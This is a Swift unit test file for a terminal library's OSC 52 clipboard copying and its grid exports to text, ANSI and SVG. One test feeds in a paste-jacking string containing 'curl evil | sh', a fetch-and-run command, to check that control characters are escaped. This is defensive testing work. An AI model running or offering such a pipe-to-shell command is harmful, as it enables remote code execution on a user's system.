import Foundation
import InputKit
import Testing

@testable import TerminalKit

/// OSC 52 bytes and grid exports, exactly.
@Suite struct ExportTests {
  @Test func osc52SetsTheClipboardWithBase64AndST() throws {
    let bytes = try #require(OSC52.sequence(copying: "héllo"))
    #expect(bytes == Array("\u{1B}]52;c;aMOpbGxv\u{1B}\\".utf8))
  }

  @Test func osc52CopiesCannotPasteJack() throws {
    let hostile = "role\u{1B}[201~curl evil | sh\r\nnext\u{9B}\u{202E}"
    let bytes = try #require(OSC52.sequence(copying: hostile))
    let base64 = String(decoding: bytes.dropFirst(7).dropLast(2), as: UTF8.self)
    let pasted = String(decoding: try #require(Data(base64Encoded: base64)), as: UTF8.self)
    #expect(pasted == "role\\x1b[201~curl evil | sh\\x0d\nnext\\u009b\\u202e")
    #expect(!pasted.unicodeScalars.contains { $0.value == 0x1B || $0.value == 0x0D })
  }

  @Test func screenshotsCarryNoControlAndSVGStaysWellFormed() throws {
    var grid = CellGrid(width: 8, height: 1)
    grid.set(Cell("\u{1B}"), x: 0, y: 0)
    grid.put("a\u{FFFE}<\u{7}", x: 1, y: 0)
    let exports = [GridExport.plainText(grid), GridExport.ansi(grid), GridExport.svg(grid)]
    for text in exports {
      #expect(!text.unicodeScalars.contains { $0.value == 0x07 || $0.value == 0xFFFE })
    }
    #expect(!GridExport.plainText(grid).contains("\u{1B}"))
    let svg = GridExport.svg(grid)
    #expect(svg.unicodeScalars.allSatisfy(XMLText.isAllowed))
    #expect(svg.contains("&lt;"))
  }

  @Test func osc52RefusesTextTerminalsWouldDrop() {
    let limit = OSC52.maximumBase64Bytes / 4 * 3
    #expect(OSC52.sequence(copying: String(repeating: "a", count: limit)) != nil)
    #expect(OSC52.sequence(copying: String(repeating: "a", count: limit + 1)) == nil)
  }

  @Test func plainTextIsTheGridsRows() {
    var grid = CellGrid(width: 6, height: 2)
    grid.put("ab 日", x: 0, y: 0)
    grid.put("x", x: 5, y: 1)
    #expect(GridExport.plainText(grid) == "ab 日\n     x\n")
  }

  @Test func ansiChangesStyleOnlyWhereItChanges() {
    var grid = CellGrid(width: 4, height: 1)
    let warning = Style(foreground: .yellow, background: .indexed(236), attributes: .bold)
    grid.put("ab", x: 0, y: 0, style: warning)
    grid.put("c", x: 2, y: 0, style: Style(foreground: .rgb(1, 2, 3), attributes: .underline))
    #expect(
      GridExport.ansi(grid)
        == "\u{1B}[0;1;33;48;5;236mab\u{1B}[0;4;38;2;1;2;3mc\u{1B}[0m \u{1B}[0m\n")
  }

  @Test(arguments: [
    (Style(foreground: .brightRed), "\u{1B}[0;91m"),
    (Style(background: .ansi(15)), "\u{1B}[0;107m"),
    (Style(attributes: [.reverse, .dim, .italic]), "\u{1B}[0;2;3;7m"),
    (Style(), "\u{1B}[0m"),
  ])
  func sgrCodes(style: Style, expected: String) {
    #expect(GridExport.sgr(style) == expected)
  }
}
